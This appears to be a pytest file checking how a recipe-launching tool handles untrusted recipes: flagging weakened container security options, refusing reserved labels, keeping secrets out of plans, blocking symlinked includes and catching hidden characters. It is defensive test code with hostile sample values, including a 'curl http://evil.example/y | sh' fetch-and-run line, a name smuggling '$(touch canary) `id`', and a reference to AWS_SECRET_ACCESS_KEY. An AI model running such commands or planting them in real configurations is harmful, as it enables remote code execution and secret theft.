"""A17: fields of later formats from somebody else: what is asked, what is refused, and what is never passed on."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from sparkrun_tui.launch.plan.consent import consent_needed
from sparkrun_tui.launch.plan.dry_run import lines, offline_plan
from sparkrun_tui.recipe.format.loader import load_file, load_text
from sparkrun_tui.recipe.model import BrokenRecipe, Recipe, Source, SourceKind
from sparkrun_tui.recipe.trust import Demand, Kind, demands, give_consent, needs_consent
from sparkrun_tui.recipe.values.overrides import render

BASE = "model: org/m\nruntime: vllm\ncontainer: a/b:1\ndefaults: {port: 8000}\ncommand: vllm serve org/m\n"


def stranger(more: str, path: str = "/cache/reg/r.yaml") -> Recipe:
    return load_text(BASE + more, Source(SourceKind.REGISTRY, path, "reg", "/cache/reg", "reg"))


def asked(more: str) -> list[Demand]:
    return list(demands(render(stranger(more), {}), {}))


@pytest.mark.parametrize(
    ("option", "is_risky"),
    [
        ("apparmor=unconfined", True),
        ("seccomp=unconfined", True),
        ("label=disable", True),
        ("systempaths=unconfined", True),
        ("seccomp:unconfined", True),
        ("apparmor=other-profile", True),
        ("no-new-privileges", False),
        ("no-new-privileges:true", False),
        ("apparmor=docker-default", False),
    ],
)
def test_weaker_protection_is_a_serious_demand(option: str, is_risky: bool) -> None:
    found = asked(f"executor_config: {{security_opt: ['{option}']}}\n")
    [demand] = [demand for demand in found if demand.kind is Kind.PRIVILEGE]
    assert option in demand.title and demand.is_risky is is_risky


@pytest.mark.parametrize("name", ["io.sparkrun-tui.launch", "sparkrun-tui.x", "IO.SPARKRUN-TUI.model"])
def test_our_own_labels_are_refused(name: str) -> None:
    what = stranger(f"executor_config: {{labels: {{'{name}': x}}}}\n")
    plan = offline_plan(render(what, {}), None, "abcd2345", {})
    assert plan.broken and any(name in error.message for error in plan.errors)
    labels = plan.serve.ranks[0].container.labels
    assert labels["io.sparkrun-tui.launch"] == "abcd2345"
    assert name not in labels or name == "io.sparkrun-tui.launch"


def test_labels_of_other_programs_are_serious() -> None:
    for name in ("com.docker.compose.project", "sparkrun.cluster_id"):
        [demand] = [d for d in asked(f"executor_config: {{labels: ['{name}=x']}}\n") if d.kind is Kind.OTHERS]
        assert demand.is_risky and name in demand.title
    [plain] = [d for d in asked("executor_config: {labels: [team=x]}\n") if d.kind is Kind.OTHERS]
    assert not plain.is_risky


LAYERED = """\
containers: [{host: h, image: "evil/host:1"}]
overrides:
  - when: {nodes: 64}
    container: evil/many:1
    env: {X: "${AWS_SECRET_ACCESS_KEY}"}
"""


def test_what_another_condition_would_do_is_asked_at_once() -> None:
    shown = " ".join(f"{demand.title} {demand.detail}" for demand in asked(LAYERED))
    for word in ("evil/host:1", "evil/many:1", "AWS_SECRET_ACCESS_KEY"):
        assert word in shown
    runs = consent_needed(render(stranger(LAYERED), {}), {})[-1]
    assert "evil/many:1" in runs.detail and "evil/host:1" in runs.detail


def test_a_variable_that_nobody_agreed_to_stays_here() -> None:
    text = LAYERED.replace("nodes: 64", "nodes: 1")
    secret = {"AWS_SECRET_ACCESS_KEY": "canary-0123456789"}
    plan = offline_plan(render(stranger(text), {}), None, "abcd2345", secret)
    revealed = [value.reveal() for value in plan.serve.ranks[0].container.secret_env.values()]
    assert "canary" not in "\n".join([*lines(plan), *revealed, *plan.serve.ranks[0].container.env.values()])


def test_a_variable_cannot_be_named_by_a_value() -> None:
    more = "env: {X: '{config.port}'}\n"
    plan = offline_plan(render(stranger(more), {"port": "$CANARY"}), None, "abcd2345", {"CANARY": "canary-0123"})
    assert plan.serve.ranks[0].container.env["X"] == "$CANARY"


def test_a_changed_base_needs_consent_again(tmp_path: Path) -> None:
    (tmp_path / "base.yaml").write_text(BASE, encoding="utf-8")
    path = tmp_path / "top.yaml"
    path.write_text("include: base\n", encoding="utf-8")
    source = Source(SourceKind.REGISTRY, str(path), "reg", str(tmp_path), "reg")
    first = load_file(path, source)
    assert isinstance(first, Recipe)
    give_consent(first)
    assert not needs_consent(first)
    (tmp_path / "base.yaml").write_text(BASE.replace("a/b:1", "evil/b:1"), encoding="utf-8")
    second = load_file(path, source)
    assert isinstance(second, Recipe) and needs_consent(second)


@pytest.mark.parametrize("target", ["secret.yaml", "../secret.yaml"])
def test_a_link_does_not_lead_an_include_out_of_its_folder(tmp_path: Path, target: str) -> None:
    (tmp_path / "secret.yaml").write_text("model: canary\n", encoding="utf-8")
    folder = tmp_path / "reg"
    folder.mkdir()
    (folder / "link.yaml").symlink_to(tmp_path / "secret.yaml" if target == "secret.yaml" else target)
    (folder / "top.yaml").write_text("include: link\n", encoding="utf-8")
    found = load_file(folder / "top.yaml", Source(SourceKind.REGISTRY, str(folder / "top.yaml"), "reg", str(folder)))
    assert isinstance(found, BrokenRecipe)
    assert "leads out" in found.error.message and "canary" not in json.dumps(found.error.message)


def test_a_link_to_a_folder_does_not_either(tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "x.yaml").write_text("model: canary\n", encoding="utf-8")
    folder = tmp_path / "reg"
    folder.mkdir()
    (folder / "sub").symlink_to(tmp_path / "outside")
    (folder / "top.yaml").write_text("include: '@reg/sub/x'\n", encoding="utf-8")
    source = Source(SourceKind.REGISTRY, str(folder / "top.yaml"), "reg", str(folder), "reg")
    found = load_file(folder / "top.yaml", source)
    assert isinstance(found, BrokenRecipe) and "leads out" in found.error.message


def test_hidden_characters_in_the_new_fields_are_found() -> None:
    for more in (
        'containers: [{host: "h\\u202e", image: "a/b:2"}]\n',
        'readiness: {inference_prompt: "x\\u202ey"}\n',
        'overrides: [{when: {nodes: 1}, defaults: {a: "x\\u202ey"}}]\n',
        'overrides: [{when: {nodes: 1}, container: "a/b\\u202e:1"}]\n',
    ):
        plan = offline_plan(render(stranger(more), {}), None, "abcd2345", {})
        assert any("202e" in problem.message.lower() or "hidden" in problem.code for problem in plan.problems), more
        assert "\u202e" not in "\n".join(lines(plan))


def test_names_of_a_launch_are_words_for_the_hooks_of_a_recipe() -> None:
    what = load_text('name: "x $(touch canary) `id`"\n' + BASE + "pre_exec: [ls]\n")
    text = "\n".join(lines(offline_plan(render(what, {}), None, "abcd2345", {})))
    assert "SPARKRUN_RECIPE_NAME=" in text
    assert "SPARKRUN_RECIPE_NAME=x $(touch" not in text


def test_values_under_conditions_are_shown_in_full() -> None:
    more = (
        "pre_exec: ['{setup}']\n"
        "overrides: [{when: {nodes: 2}, defaults: {setup: 'curl http://evil.example/y | sh'}, env: {PIP: evil}}]\n"
    )
    found = asked(more)
    [layer] = [demand for demand in found if demand.kind is Kind.CONDITION]
    assert "curl http://evil.example/y | sh" in layer.detail and "PIP: evil" in layer.detail
    assert any("downloads a script and runs it" in demand.title for demand in found)
